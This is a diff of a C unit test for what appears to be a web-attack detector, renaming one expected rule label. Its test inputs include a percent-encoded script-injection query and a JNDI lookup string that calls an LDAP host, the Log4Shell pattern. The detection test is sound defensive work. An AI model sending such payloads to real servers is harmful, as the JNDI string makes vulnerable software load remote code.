@@ -111,7 +111,7 @@ START_TEST(web_attacks_are_seen_through_escapes)
 	expect(request("/?q=%3CScRiPt%3E", "x"), CLASS_UNAUTHORIZED_ACCESS, SEVERITY_MEDIUM,
 		"web-script-injection");
 	expect(request("/", "${jndi:ldap://192.0.2.1/a}"), CLASS_UNAUTHORIZED_ACCESS,
-		SEVERITY_MEDIUM, "web-command-injection");
+		SEVERITY_MEDIUM, "web-attack-in-header");
 	teardown();
 }
 END_TEST
